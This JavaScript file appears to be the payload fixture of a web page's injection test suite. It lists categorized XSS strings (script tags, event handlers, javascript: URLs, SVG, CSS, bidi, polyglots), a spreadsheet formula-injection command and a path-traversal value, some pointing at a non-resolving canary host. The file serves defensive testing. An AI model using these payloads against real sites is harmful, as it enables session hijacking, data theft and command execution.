// The hostile strings the injection suite places in every field the page shows.
// Each is [category, text]. Any request to canary.invalid, any dialog, any
// element the page did not create, any on* attribute or javascript: URL is a
// failure; every string must show as the exact text it is.
//
// "##" is avoided on purpose outside the "bilingual" category: the page splits
// reasons and messages at "##" (中文##English), so those are compared raw.

const C = "canary.invalid"; // .invalid never resolves (RFC 2606): a request to it is a leak, never a hit
const polyglot = "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e";

const RAW = [
  // --- script tags
  ["script", "<script>alert(1)</script>"],
  ["script", "<SCRIPT SRC=//" + C + "/x.js></SCRIPT>"],
  ["script", "<script>window.__pwned=1;document.title='pwned'</script>"],
  ["script", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["script", "<script/src=data:,alert(1)></script>"],
  ["script", "<script type=module>import('//" + C + "/m.js')</script>"],
  ["script", "<script\x0cx>alert(1)</script>"],
  // --- event handlers
  ["handler", "<img src=x onerror=alert(1)>"],
  ["handler", "<img src=\"//" + C + "/i.png\" onerror=\"alert(document.domain)\">"],
  ["handler", "<svg onload=alert(1)>"],
  ["handler", "<div onmouseover=\"alert(1)\">hover me</div>"],
  ["handler", "<input autofocus onfocus=alert(1)>"],
  ["handler", "<details open ontoggle=alert(1)>"],
  ["handler", "\"><img src=x onerror=alert(1)>"],
  ["handler", "' onmouseover='alert(1)"],
  ["handler", "\" onfocus=\"alert(1)\" autofocus=\""],
  ["handler", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">"],
  ["handler", "<x contenteditable onfocus=alert(1) autofocus>edit</x>"],
  // --- javascript: and other dangerous URLs
  ["url", "javascript:alert(1)"],
  ["url", "java\tscript:alert(1)"],
  ["url", "\u0001javascript:alert(1)"],
  ["url", "<a href=\"javascript:alert(1)\">click</a>"],
  ["url", "javascript&colon;alert(1)"],
  ["url", "data:text/html,<script>alert(1)</script>"],
  ["url", "//" + C + "/path?q=1"],
  ["url", "https://" + C + "/a\"><img src=x>"],
  ["url", "<a href=//" + C + "/ ping=//" + C + "/p>ping</a>"],
  // --- SVG / MathML
  ["svg", "<svg><script>alert(1)</script></svg>"],
  ["svg", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"],
  ["svg", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>"],
  ["svg", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"],
  ["svg", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"],
  ["svg", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ["svg", "<svg><style><img src=x onerror=alert(1)></style></svg>"],
  // --- style
  ["style", "<style>*{background:url(//" + C + "/css)}</style>"],
  ["style", "<style>@import '//" + C + "/i.css';</style>"],
  ["style", "<div style=\"background:url(javascript:alert(1))\">x</div>"],
  ["style", "<link rel=stylesheet href=//" + C + "/l.css>"],
  ["style", "<div style=\"background-image:url(//" + C + "/bg.png)\">bg</div>"],
  // --- closing tags of raw-text / RCDATA elements
  ["close", "</textarea><script>alert(1)</script>"],
  ["close", "</title><script>alert(1)</script>"],
  ["close", "</script><script>alert(1)</script>"],
  ["close", "</style><script>alert(1)</script>"],
  ["close", "</noscript><img src=x onerror=alert(1)>"],
  ["close", "</pre></code></span></div></section><img src=x onerror=alert(1)>"],
  ["close", "</option></select><img src=x onerror=alert(1)>"],
  ["close", "</template><img src=x onerror=alert(1)>"],
  // --- comments, CDATA, processing instructions
  ["comment", "<!--<img src=x onerror=alert(1)>-->"],
  ["comment", "--><img src=x onerror=alert(1)>"],
  ["comment", "<!--"],
  ["comment", "<![CDATA[<script>alert(1)</script>]]>"],
  ["comment", "]]><script>alert(1)</script>"],
  ["comment", "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"],
  ["comment", "<!DOCTYPE html><html><body onload=alert(1)>"],
  // --- template literals, template engines, JS string breakouts
  ["template", "${alert(1)}"],
  ["template", "`${alert(1)}`"],
  ["template", "{{constructor.constructor('alert(1)')()}}"],
  ["template", "{{7*7}}[[7*7]]"],
  ["template", "'); alert(1); //"],
  ["template", "\"}]; alert(1); //"],
  // --- Unicode bidi overrides
  ["bidi", "\u202Egnp.exe<img src=x onerror=alert(1)>"],
  ["bidi", "\u202Ealert(1)\u202C<script>"],
  ["bidi", "\u2066<b>\u2069isolated\u2067</b>\u2069"],
  ["bidi", "\u200F\u202B<img src=x onerror=alert(1)>\u202C"],
  ["bidi", "\u061C\u200E\u200F\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069"],
  // --- zero-width and invisible characters
  ["zerowidth", "\u200B<script>\u200Balert(1)</script>"],
  ["zerowidth", "<\u200Bscript>alert(1)</script>"],
  ["zerowidth", "java\u200Bscript:alert(1)"],
  ["zerowidth", "\uFEFF<img src=x onerror=alert(1)>"],
  ["zerowidth", "a\u200Cb\u200Dc\u2060d\u180Ee\u00ADf"],
  // --- very long strings
  // (long strings without a break opportunity are in LONG_UNBROKEN: laying them out is
  // slow enough in Chromium that they get a test of their own)
  ["long", "<img src=x onerror=alert(1)>".repeat(2000)],
  ["long", ("A".repeat(99) + " ").repeat(1000)],
  ["long", ("<".repeat(79) + " ").repeat(250) + "script>alert(1)" + (" " + ">".repeat(79)).repeat(250)],
  ["long", "中文".repeat(5000) + "<script>alert(1)</script>"],
  ["long", "x".repeat(399) + "<img src=x onerror=alert(1)>"],
  // --- entities and escapes (must stay literal text)
  ["entity", "&lt;script&gt;alert(1)&lt;/script&gt;"],
  ["entity", "&#60;script&#62;alert(1)&#60;/script&#62;"],
  ["entity", "&#x3C;img src=x onerror=alert(1)&#x3E;"],
  ["entity", "&quot;&apos;&nbsp;&copy;&NotAnEntity;&#0;&#xD800;"],
  ["entity", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"],
  ["entity", "\\x3cimg src=x onerror=alert(1)\\x3e"],
  // --- srcdoc, iframes, plugins
  ["frame", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"],
  ["frame", "<iframe src=\"//" + C + "/f\"></iframe>"],
  ["frame", "<iframe src=javascript:alert(1)>"],
  ["frame", "<object data=\"//" + C + "/o\"></object>"],
  ["frame", "<embed src=\"//" + C + "/e\">"],
  ["frame", "<frameset><frame src=\"//" + C + "/fr\"></frameset>"],
  // --- meta refresh, CSP and charset tags
  ["meta", "<meta http-equiv=\"refresh\" content=\"0;url=//" + C + "/r\">"],
  ["meta", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src * 'unsafe-inline'\">"],
  ["meta", "<meta charset=\"utf-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-"],
  // --- form, base, DOM clobbering
  ["form", "<base href=\"//" + C + "/\">"],
  ["form", "<form action=\"//" + C + "/f\"><input name=q value=x><button>go</button></form>"],
  ["form", "<button formaction=\"javascript:alert(1)\">x</button>"],
  ["form", "<form id=app><input name=dataset></form>"],
  ["form", "<img name=getElementById><img id=toast>"],
  // --- CSS expressions and legacy bindings
  ["css", "<div style=\"width:expression(alert(1))\">x</div>"],
  ["css", "expression(alert(1))"],
  ["css", "-moz-binding:url(//" + C + "/x.xml#x)"],
  ["css", "url(\"javascript:alert(1)\")"],
  // --- control characters, line terminators, odd Unicode
  ["control", "nul\u0000byte<script>alert(1)</script>"],
  ["control", "bell\u0007esc\u001b[31mred\u001b[0m"],
  ["control", "line1\r\nline2\n<script>alert(1)</script>\tend"],
  ["control", "ls\u2028ps\u2029<img src=x onerror=alert(1)>"],
  ["control", "nel\u0085c1\u0080\u009f"],
  ["control", "👾<img src=x onerror=alert(1)>🤖 \uD83D\uDE00"],
  ["control", "\uFFFD\uFFFE\uFFFF"],
  // --- names the page's own objects use (prototype and clobbering)
  ["proto", "__proto__"],
  ["proto", "constructor"],
  ["proto", "hasOwnProperty"],
  // --- spreadsheet formulas, paths
  ["formula", "=HYPERLINK(\"//" + C + "/x\",\"click\")"],
  ["formula", "+cmd|' /C calc'!A0"],
  ["path", "../../../../etc/passwd"],
  // --- polyglots
  ["polyglot", polyglot],
  ["polyglot", "'\"--></style></script><script>alert(1)</script><!--"],
  ["polyglot", "\"'><svg/onload=alert(1)>`${alert(1)}`</textarea></title><!--"],
  // --- bilingual splitting (compared raw: the page splits at ##)
  ["bilingual", "<b>中文</b>##<i onmouseover=alert(1)>English</i>"],
  ["bilingual", "##<script>alert(1)</script>"],
  ["bilingual", "<img src=x onerror=alert(1)>##"],
];

/** 100,000 characters and not one place to break a line: the availability test. */
export const LONG_UNBROKEN = "<img src=x onerror=alert(1)>" + "A".repeat(100000);

export const PAYLOADS = RAW.map(([category, text], i) => ({ i, category, text }));

export const CATEGORIES = [...new Set(RAW.map((r) => r[0]))];

/** True when the page shows this text split in two (reason/message fields). */
export function isBilingual(text) {
  return text.includes("##");
}
